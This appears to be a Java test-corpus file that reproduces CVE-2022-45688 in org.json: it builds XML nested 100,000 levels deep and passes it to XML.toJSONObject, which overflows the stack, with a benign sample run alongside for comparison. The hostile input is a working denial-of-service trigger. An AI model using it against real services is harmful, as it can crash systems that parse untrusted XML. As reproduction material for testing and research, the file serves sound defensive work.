package corpus.orgjson;

import corpus.CorpusDriver;
import org.json.XML;

/**
 * org.json (JSON-java) 20220320, CVE-2022-45688: {@code XML.toJSONObject} on elements nested without
 * limit recurses in {@code XML.parse} until the stack runs out (fixed in 20230227 by a nesting limit).
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        int depth = CorpusDriver.depth(args, 100_000);
        String hostile = CorpusDriver.nested("<a>", "1", "</a>", depth);
        CorpusDriver.run("orgjson", XML.class,
                () -> XML.toJSONObject("<doc><name>benign</name><items><i>1</i><i>2</i></items></doc>"),
                () -> XML.toJSONObject(hostile));
    }
}
